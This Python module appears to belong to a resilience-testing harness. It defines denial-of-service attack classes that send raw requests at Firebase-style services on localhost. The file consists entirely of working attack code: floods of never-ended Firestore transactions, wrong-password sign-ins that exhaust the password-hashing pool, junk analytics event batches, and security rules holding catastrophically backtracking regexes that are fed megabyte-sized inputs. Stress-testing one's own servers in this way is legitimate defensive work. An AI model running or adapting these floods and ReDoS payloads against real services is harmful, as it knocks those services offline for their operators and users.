"""Attacks by whole calls: what they fill are tables and queues behind the protocols."""

import itertools
import json
import time

from attacks import frames
from attacks.http2 import stream_numbers
from attacks.traffic import ANSWER, Attack


class TransactionFlood(Attack):
    """Transactions that nobody ends, anonymously."""

    links = 8

    def script(self, number):
        yield frames.opening()
        block = frames.call_block("BeginTransaction")
        content = frames.message(frames.text_field(1, self.database))
        streams = stream_numbers()
        while True:
            batch = itertools.islice(streams, 100)
            yield b"".join(
                frames.headers(stream, block) + frames.data(stream, content, is_last=True) for stream in batch)
            yield ANSWER


class SignInFlood(Attack):
    """Sign-ins with wrong passwords, each for another account and from many addresses: hashes fill the pool."""

    protocol = "http/1.1"
    links = 200
    addresses = 50
    seconds = 20
    signs_in = True

    def script(self, number):
        for attempt in itertools.count():
            email = f"nobody-{number}-{attempt}@example.org"
            yield self.request({"email": email, "password": "wrong horse 7", "returnSecureToken": True})
            yield ANSWER

    def request(self, content, name="signInWithPassword"):
        body = json.dumps(content).encode()
        path = f"/identitytoolkit.googleapis.com/v1/accounts:{name}?key={self.project}"
        head = (
            f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\n\r\n"
        )
        return head.encode() + body


class EventFlood(Attack):
    """Batches of events with the public key alone, each of another app and installation, with new names."""

    protocol = "http/1.1"
    links = 32
    addresses = 8

    def script(self, number):
        for attempt in itertools.count():
            yield self.request(f"{number}x{attempt}")
            yield ANSWER

    def request(self, tag):
        now = int(time.time() * 1000)
        events = [
            {"name": f"junk{tag}x{n}", "timeMicros": now * 1000, "params": {"p": {"stringValue": f"{tag}{n}" * 8}}}
            for n in range(200)
        ]
        body = json.dumps({
            "appInstanceId": f"c{tag}", "batchNumber": 1, "sentTimeMillis": now, "events": events,
        }).encode()
        head = (
            f"POST /v1/projects/{self.project}/apps/1:1:ios:{tag}/events:batch HTTP/1.1\r\nHost: localhost\r\n"
            f"x-goog-api-key: {self.project}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
        )
        return head.encode() + body


class RuleExpressions(Attack):
    """Documents that make rules work: a megabyte for `matches`, templates for `replace`."""

    protocol = "http/1.1"
    links = 8
    seconds = 20
    rules = """\
match /texts/{id} { allow create: if request.resource.data.text.matches('(a|b|ab)*c(a|b|ab)*d'); }
match /parts/{id} { allow create: if request.resource.data.text.replace('a', request.resource.data.with) == 'x'; }
match /more/{id} { allow create: if request.resource.data.text
  .replace('a', request.resource.data.with).replace('a', request.resource.data.with)
  .replace('a', request.resource.data.with).replace('a', request.resource.data.with).size() < 0; }
match /lists/{id} { allow create: if request.resource.data.text.split('').toSet().size() < 0; }
match /own/{id} { allow create: if request.resource.data.text.matches(request.resource.data.with); }
"""

    def script(self, number):
        cases = (
            ("texts", "ab" * 500_000, ""),
            ("parts", "a" * 500_000, "b" * 500_000),
            ("more", "a" * 1_000, "a" * 1_000),
            ("lists", "a" * 1_000_000, ""),
            ("own", "a" * 500_000, "(a?){1000}a{1000}"),
        )
        for collection, text, other in itertools.cycle(cases[number % 5:] + cases[:number % 5]):
            yield self.request(collection, text, other)
            # The next one goes out whether or not this one was answered soon.
            yield ANSWER

    def request(self, collection, text, other):
        fields = {"text": {"stringValue": text}, "with": {"stringValue": other}}
        body = json.dumps({"fields": fields}).encode()
        head = (
            f"POST /v1/{self.database}/documents/{collection} HTTP/1.1\r\nHost: localhost\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
        )
        return head.encode() + body
